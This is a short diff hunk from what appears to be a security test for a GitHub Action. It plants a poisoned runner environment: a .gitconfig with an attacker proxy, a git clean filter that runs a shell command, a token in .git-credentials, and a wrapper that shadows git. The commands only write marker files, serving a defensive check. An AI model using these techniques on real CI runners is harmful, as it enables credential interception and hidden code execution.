@@ -195,8 +195,8 @@ async function attack(root: string, home: string, runnerTemp: string): Promise<v
 
   // the runner was poisoned before the job (another step, a cache): the action's git must not care
   const attackerBefore = attacker.hits.length;
-  writeFileSync(path.join(home, '.gitconfig'), `[http]\n\tproxy = ${atk}\n[filter "pre"]\n\tclean = sh -c 'echo pre >> ${marker('preplanted')}; cat'\n[core]\n\tattributesFile = ${home}/.attrs\n`);
-  writeFileSync(path.join(home, '.attrs'), '* filter=pre\n');
+  writeFileSync(path.join(home, '.gitconfig'), `[http]\n\tproxy = ${atk}\n[filter "pwn"]\n\tclean = "sh -c 'echo pre >> ${marker('preplanted')}; cat'"\n[core]\n\tattributesFile = ${home}/.attrs\n`);
+  writeFileSync(path.join(home, '.attrs'), '* filter=pwn\n');
   writeFileSync(path.join(home, '.git-credentials'), `https://x-access-token:${rig.token}@github.com\n`);
   mkdirSync(path.join(home, '.local', 'bin'), { recursive: true });
   writeFileSync(path.join(home, '.local', 'bin', 'git'), `#!/bin/sh\necho wrapped >> ${marker('preplanted-wrapper')}\nexec /usr/bin/git "$@"\n`, { mode: 0o755 });
